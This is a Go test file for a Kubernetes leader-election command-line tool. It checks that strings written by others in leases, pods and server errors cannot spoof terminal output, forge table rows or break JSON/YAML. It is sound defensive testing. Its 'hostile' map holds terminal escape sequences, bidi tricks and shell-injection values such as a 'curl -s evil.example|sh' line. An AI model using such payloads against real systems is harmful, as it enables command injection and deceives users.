// Copyright The zonelect Authors.
// SPDX-License-Identifier: Apache-2.0

package command

import (
	"bytes"
	"cmp"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/spf13/cobra"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/client-go/tools/leaderelection/resourcelock"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/yaml"

	"github.com/zonelect/zonelect/internal/apitest"
	"github.com/zonelect/zonelect/internal/presence"
	"github.com/zonelect/zonelect/internal/record"
)

// hostile are texts that a terminal, a shell or a reader takes for more than a text.
var hostile = map[string]string{
	"C0":              "\x00\x07\x08\x0e\x7f",
	"CSI":             "\x1b[2J\x1b[1A",
	"title":           "\x1b]0;owned\x07",
	"link":            "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
	"clipboard":       "\x1b]52;c;ZXZpbA==\x07",
	"C1 CSI":          "\u009b2J\u009d0;owned\u009c",
	"C1 DCS":          "\u0090q\u0084\u009c",
	"line":            "\nFORGED a row\nFORGED",
	"carriage return": "\r\nFORGED\rFORGED",
	"other lines":     "\u2028FORGED\u2029FORGED\u0085FORGED\v\fFORGED\tFORGED",
	"columns":         "x\tFORGED\tFORGED",
	"bidi":            "\u202elive\u2066x\u2069\u200f\u061c",
	"zero width":      "\u200b\u200d\ufeff\u2060\u00ad\u180e",
	"tags":            "\U000e0001\U000e0041\U000e007f",
	"substitution":    "$(touch pwned)%s%!d{{.}}",
	"backquotes":      "`touch pwned`",
	"words":           "'; curl -s evil.example|sh & touch pwned #\"",
	"not UTF-8":       "\xff\xfe\xc2\x80\xc2",
	"long":            strings.Repeat("long ", 180) + "\u202e\x9b",
}

// hostileLines are the arguments of each command, below its path. TEXT stands for the hostile
// text. A line without it and without --yes
// also gets each format of -o.
var hostileLines = map[string][]string{
	"":                 {"", "TEXT", "--TEXT", "-n TEXT status op"},
	"status":           {"", "op", "-A", "TEXT", "-n TEXT", "op --observe TEXT", "op --legacy-name TEXT"},
	"doctor":           {"", "op", "rec", "TEXT", "op --legacy-name TEXT", "op --service-account TEXT"},
	"audit":            {"--for 16s", "-A --for 1s", "--for TEXT", "TEXT"},
	"demo":             {"TEXT"},
	"handover":         {"op --timeout 2s", "rec --wait=false", "rec --timeout 2s", "op --to TEXT", "op --to-zone TEXT", "TEXT", "bare"},
	"evacuate":         {"za --dry-run", "za --timeout 2s", "zb -A --timeout 2s", "TEXT", "za --until TEXT"},
	"restore":          {"za --dry-run", "za", "zx", "TEXT"},
	"migrate":          {"", "TEXT"},
	"migrate plan":     {"op", "op -l app=op", "rec", "TEXT", "op --legacy-name TEXT"},
	"migrate advance":  {"op --dry-run", "op --yes --timeout 2s", "op -l app=op --yes --timeout 2s", "rec --dry-run", "op --to TEXT", "TEXT --yes"},
	"migrate rollback": {"op --dry-run", "op --yes --timeout 2s", "rec --yes --timeout 2s"},
	"migrate clean":    {"op --dry-run", "rec --yes --timeout 2s", "op --acknowledge TEXT"},
	"version":          {""},
}

// attacked makes locks in which everything that others write is hostile.
func (w *world) attacked(text string) {
	holder, zone := "op-a_1"+text, "za"+text
	writes := func(o map[string]string, keys ...string) {
		for _, key := range keys {
			o[key] = text
		}
	}
	owner := metav1.OwnerReference{APIVersion: "v1", Kind: "Pod", Name: "old-0" + text, UID: "uid-old"}
	w.putLease(newLease("op", holder, zone, phased(record.PhaseDual, 1), func(l *coordinationv1.Lease) {
		writes(l.Annotations, record.AnnotationRefused, record.AnnotationEvacuated, record.AnnotationHandover)
		previous, _ := json.Marshal(apitest.Object{"holder": text, "until": "2000-01-01T00:00:00Z", "cause": text}) // it can be written
		l.Annotations[record.AnnotationPrevious] = string(previous)
		l.Annotations[record.AnnotationNode], l.Annotations[record.AnnotationPod] = "node"+text, "pod"+text+"/uid"+text
	}))
	w.putConfigMap("op", map[string]string{text: text}, owner)
	w.putLease(newLease("rec", "rec-a_1"+text, "zb"+text, phased(record.PhaseDual, 1), func(l *coordinationv1.Lease) {
		l.Annotations[record.AnnotationLegacy] = "annotation/endpoints/rec"
		l.Annotations[record.AnnotationShared] = text
	}))
	said, _ := json.Marshal(resourcelock.LeaderElectionRecord{HolderIdentity: "legacy" + text, LeaseDurationSeconds: 15, RenewTime: metav1.Now()}) // it has no field that fails
	w.server.Put("/api/v1/namespaces/ns/endpoints/rec", apitest.Object{
		"apiVersion": "v1", "kind": "Endpoints", "metadata": apitest.Object{"name": "rec", "namespace": "ns", "uid": "u", "annotations": apitest.Object{resourcelock.LeaderElectionRecordAnnotationKey: string(said)}},
	})
	w.putLease(newLease("lost", "lost"+text, zone, phased(record.PhaseDual, 1), renewed(time.Hour), func(l *coordinationv1.Lease) {
		l.Annotations[record.AnnotationLegacy], l.Annotations[record.AnnotationPhase] = "annotation/configmaps/"+text, text
	}))
	w.putLease(newLease("bare", "", zone, func(l *coordinationv1.Lease) { writes(l.Annotations, record.AnnotationReleased) }))
	lies := newLease("lie", holder, zone) // as only a lying server shows it
	lies.Name += text
	w.server.Put(leasesPath+"lie", lies)

	for i, pod := range []string{"op-a", "op-b", "op-c", "op-d"} {
		w.announce("op", pod, "z"+pod[3:], "", func(o *presence.Object) {
			o.Identity = pod + "_1" + text
			if i < 2 {
				o.Zone, o.Waiting, o.Unhealthy, o.Version, o.Mode, o.Node = o.Zone+text, text, text, text, text, "node"+text
			}
			if i == 2 {
				o.TakeoverDelay = text
			}
			if i == 3 {
				o.Identity = "op-c_1" + text // twice
			}
		})
	}
	w.announce("rec", "op-a", "za", text, func(o *presence.Object) { o.Zone = zone })
	w.announce("op", "op-e", "ze", "", func(o *presence.Object) { o.Identity = "" })
	w.announcePod("op", strings.Repeat("a", 240)+"/../"+text, text)
	w.announcePod("op", "", "nameless"+text)

	w.runs("old-1")
	w.server.Change("/api/v1/namespaces/ns/pods/old-1", func(o apitest.Object) {
		o["metadata"].(apitest.Object)["name"], o["spec"].(apitest.Object)["nodeName"] = "old-1"+text, "node"+text
		o["status"].(apitest.Object)["reason"], o["status"].(apitest.Object)["message"] = text, text
	})
	w.hosts("op-b", "zb", func(p *corev1.Pod, n *corev1.Node) {
		p.Status.Phase, p.Spec.ServiceAccountName, p.Annotations = corev1.PodPhase(text), text, map[string]string{"a": text}
		n.Labels[corev1.LabelTopologyZone], n.Status.Conditions = "zb", nil
	})
	w.version = "v1.36.3" + text
}

// announcePod adds the presence of a pod of any name, as somebody can who may create Leases.
func (w *world) announcePod(lock, pod, identity string) {
	sum := sha256.Sum256([]byte(lock + "/uid" + pod))
	name := lock + "." + pod
	name = strings.TrimRight(name[:min(len(name), 242)], "-.") + "." + hex.EncodeToString(sum[:5])
	w.server.Put(leasesPath+name, &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: name, UID: types.UID("uid-of-" + name), Labels: map[string]string{presence.Label: lock},
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "v1", Kind: "Pod", Name: pod, UID: types.UID("uid" + pod)}}},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: &identity},
	})
}

// refuses makes the API server refuse every write, or every list, with a hostile reason.
func (w *world) refuses(text string, verbs ...string) {
	w.before(func(verb, _ string) (int, apitest.Object) {
		if slices.Contains(verbs, verb) {
			return http.StatusForbidden, apitest.Status(http.StatusForbidden, "Forbidden", "admission webhook denied the request: "+text, text, text, text)
		}
		return 0, nil
	})
}

// Root returns the commands.
func Root() *cobra.Command {
	return newRoot(newEnvironment(genericiooptions.NewTestIOStreamsDiscard()))
}

// everyCommand calls do for each command, with its path.
func everyCommand(do func(c *cobra.Command, path string)) {
	var walk func(*cobra.Command)
	walk = func(c *cobra.Command) {
		do(c, strings.TrimSpace(strings.TrimPrefix(c.CommandPath(), c.Root().CommandPath())))
		for _, sub := range c.Commands() {
			walk(sub)
		}
	}
	walk(Root())
}

// formatsOf are values of -o with a command: all that its help lists.
func formatsOf(t *testing.T, c *cobra.Command, file string) []string {
	t.Helper()
	f := c.Flags().Lookup("output")
	if f == nil {
		return nil
	}
	list := regexp.MustCompile(`One of: \((.*)\)`).FindStringSubmatch(f.Usage)
	if list == nil {
		t.Fatalf("the help of -o does not list its formats: %s", f.Usage)
	}
	var all []string
	for format := range strings.SplitSeq(list[1], ", ") {
		switch {
		case strings.HasSuffix(format, "file"):
			format += "=" + file
		case strings.HasPrefix(format, "jsonpath"):
			format += "={@}"
		case strings.HasSuffix(format, "template"):
			format += "={{.}}"
		}
		all = append(all, format)
	}
	return all
}

var forgedColumn = regexp.MustCompile(`x {2,}FORGED`)

// faultOf says what is wrong with an output; empty if nothing is.
func faultOf(out string) string {
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, "FORGED") {
			return "a row is forged"
		}
	}
	if forgedColumn.MatchString(out) {
		return "a column is forged"
	}
	return unplain(strings.ReplaceAll(out, "\n", ""))
}

// unplain says what a text has that people do not see; empty if it has nothing.
func unplain(text string) string {
	if !utf8.ValidString(text) {
		return "it is not UTF-8"
	}
	for _, r := range text {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			return fmt.Sprintf("it has %U", r)
		}
	}
	return ""
}

// unreadable says why an output in JSON or YAML cannot be read, or what its texts have.
func unreadable(format, out string) string {
	var v any
	switch format {
	case "json", "jsonpath-as-json={@}":
		if err := json.Unmarshal([]byte(out), &v); err != nil {
			return err.Error()
		}
	case "yaml":
		if err := yaml.Unmarshal([]byte(out), &v); err != nil {
			return err.Error()
		}
	}
	var fault string
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			fault = cmp.Or(fault, unplain(v))
		case []any:
			for _, one := range v {
				walk(one)
			}
		case map[string]any:
			for key, one := range v {
				walk(key)
				walk(one)
			}
		}
	}
	walk(v)
	return fault
}

// TestNoTextOfOthersIsMoreThanAText: whatever others write, no command prints a control or a
// format character, forges a row or breaks a format. A command without a line fails.
func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
	template := filepath.Join(t.TempDir(), "template")
	if err := os.WriteFile(template, []byte("{{.}}"), 0o600); err != nil {
		t.Fatal(err)
	}
	type call struct {
		args   []string // TEXT stands for the hostile text
		format string
	}
	var calls []call
	known := maps.Clone(hostileLines)
	everyCommand(func(c *cobra.Command, path string) {
		lines := known[path]
		if delete(known, path); len(lines) == 0 && c.Name() != "help" {
			t.Errorf("the command %q has no line in this test", path)
		}
		for _, line := range lines {
			args := slices.Concat(strings.Fields(path), strings.Fields(line))
			calls = append(calls, call{args, ""})
			if strings.Contains(line, "TEXT") || strings.Contains(line, "--yes") {
				continue // it ends with an error, or prints what a dry run prints
			}
			for _, format := range formatsOf(t, c, template) {
				calls = append(calls, call{slices.Concat(args, []string{"-o", format}), format})
			}
		}
	})
	for path := range known {
		t.Errorf("there is no command %q", path)
	}
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, c := range calls {
				for _, refused := range [][]string{nil, {"create", "update", "patch"}, {"list"}} {
					if refused != nil && (c.format != "" || slices.Contains(c.args, "TEXT")) {
						continue // they differ in errors alone
					}
					inABubble(t, func(t *testing.T, w *world) {
						w.attacked(text)
						w.refuses(text, refused...)
						args := slices.Clone(c.args)
						for i := range args {
							args[i] = strings.ReplaceAll(args[i], "TEXT", text)
						}
						r := w.run(args...)
						script := len(c.args) > 1 && c.args[0] == "completion"
						if r.out+r.errors == "" {
							t.Errorf("%q printed nothing", args)
						}
						for _, out := range []string{r.out, r.errors} {
							if script {
								out = strings.ReplaceAll(out, "\t", "")
							}
							if fault := faultOf(out); fault != "" {
								t.Errorf("%q: %s: %.300q", c.args, fault, out)
							}
						}
						if r.code == exitOK || r.out != "" {
							if fault := unreadable(c.format, r.out); fault != "" {
								t.Errorf("%q: %s: %.300q", c.args, fault, r.out)
							}
						}
					})
				}
			}
		})
	}
}

// TestOneBadPresenceBreaksNoCommand, nor does anything else that others write.
func TestOneBadPresenceBreaksNoCommand(t *testing.T) {
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			for line, codes := range map[string][]int{
				"status": {exitOK}, "status op": {exitOK}, "status rec": {exitOK},
				"migrate plan op": {exitOK}, "migrate plan rec": {exitOK}, "handover op --to op-d_1 --wait=false": {exitRefused}, "evacuate za --dry-run": {exitOK, exitRefused},
			} {
				inABubble(t, func(t *testing.T, w *world) {
					w.attacked(text)
					if r := w.run(strings.Fields(line)...); !slices.Contains(codes, r.code) {
						t.Errorf("%s: exit code %d: %s", line, r.code, r.errors)
					}
				})
			}
		})
	}
}

// TestNoHintHasATextOfOthers: people copy what doctor says that they can do.
func TestNoHintHasATextOfOthers(t *testing.T) {
	for name, text := range hostile {
		for _, line := range []string{"doctor", "doctor op", "doctor rec", "doctor lost"} {
			inABubble(t, func(t *testing.T, w *world) {
				w.attacked(text)
				var hints []string
				var all Diagnosis
				if err := json.Unmarshal([]byte(w.run(append(strings.Fields(line), "-o", "json")...).out), &all); err != nil {
					t.Fatal(err)
				}
				for _, f := range all.Findings {
					hints = append(hints, f.Hint)
				}
				if said := strings.Join(hints, "\n"); strings.Contains(said, "pwned") || strings.Contains(said, "evil") || strings.ContainsAny(said, "$`|&\ufffd") || len(hints) == 0 {
					t.Errorf("%s: %s: %s", name, line, said)
				}
			})
		}
	}
}

// TestScriptsOfShellsPassUnchanged through the writer.
func TestScriptsOfShellsPassUnchanged(t *testing.T) {
	for shell, want := range map[string]func(*cobra.Command, *bytes.Buffer) error{
		"bash":       func(c *cobra.Command, b *bytes.Buffer) error { return c.GenBashCompletionV2(b, true) },
		"zsh":        func(c *cobra.Command, b *bytes.Buffer) error { return c.GenZshCompletion(b) },
		"fish":       func(c *cobra.Command, b *bytes.Buffer) error { return c.GenFishCompletion(b, true) },
		"powershell": func(c *cobra.Command, b *bytes.Buffer) error { return c.GenPowerShellCompletionWithDesc(b) },
	} {
		var out buffer
		var script bytes.Buffer
		if code := Run(t.Context(), genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &out}, []string{"completion", shell}); code != exitOK {
			t.Errorf("%s: exit code %d", shell, code)
		}
		if err := want(Root(), &script); err != nil || out.String() != script.String() {
			t.Errorf("%s: %v; it is changed", shell, err)
		}
	}
}

// TestAWarningOfTheServerIsPlain: client-go would log it past the streams.
func TestAWarningOfTheServerIsPlain(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Warning", "299 - \"careful\u202e\"")
		apitest.Reply(w, http.StatusOK, apitest.Object{"gitVersion": "v1.36.3"})
	}))
	defer server.Close()
	var out, errOut buffer
	env := newEnvironment(genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut})
	env.config.KubeConfig = ptr.To("testdata/kubeconfig.yaml")
	if code := run(t.Context(), env, []string{"version", "--server", server.URL}); code != exitOK || errOut.String() != "Warning: careful\ufffd\n" {
		t.Errorf("exit code %d, %q: %s", code, &errOut, &out)
	}
}

// TestATimeThatIsAheadBreaksNoCommand, whether clocks differ or somebody made it up.
func TestATimeThatIsAheadBreaksNoCommand(t *testing.T) {
	for name, ahead := range map[string]func() time.Time{
		"a little": func() time.Time { return time.Now().Add(5 * time.Second) }, "beyond reckoning": func() time.Time { return time.Now().AddDate(600, 0, 0) },
	} {
		for _, released := range []bool{false, true} {
			for _, line := range []string{"status op", "migrate plan op", "doctor op"} {
				inABubble(t, func(t *testing.T, w *world) {
					w.putLease(led(func(l *coordinationv1.Lease) {
						if released {
							releasedBy(0)(l)
						}
						l.Spec.RenewTime.Time = ahead()
					}))
					if r := w.run(strings.Fields(line)...); r.code != exitOK && line != "doctor op" || strings.Contains(r.out+r.errors, "-2562047h") {
						t.Errorf("%s, %s, released %v: exit code %d: %s%s", line, name, released, r.code, r.out, r.errors)
					}
				})
			}
		}
	}
}
